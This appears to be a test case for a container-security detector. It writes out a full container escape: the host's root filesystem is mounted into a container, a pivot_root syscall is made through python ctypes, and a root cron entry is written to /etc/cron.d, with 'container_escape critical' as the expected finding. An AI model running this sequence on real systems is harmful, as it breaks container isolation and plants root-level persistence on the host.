# about: the root of a new mount namespace is turned to the host's, and a cron job written
# expect: container_escape critical
# where: container
# needs: docker
container -v /:/host $RIGHTS -- \
    unshare -m sh -c 'mount --bind /host /host; cd /host; mkdir -p srv/.old; python3 -c "import ctypes; print(ctypes.CDLL(None).syscall(155,b\".\",b\"srv/.old\"))"; cd /; echo "* * * * * root id" >/etc/cron.d/pivoted'
grep -q root /etc/cron.d/pivoted
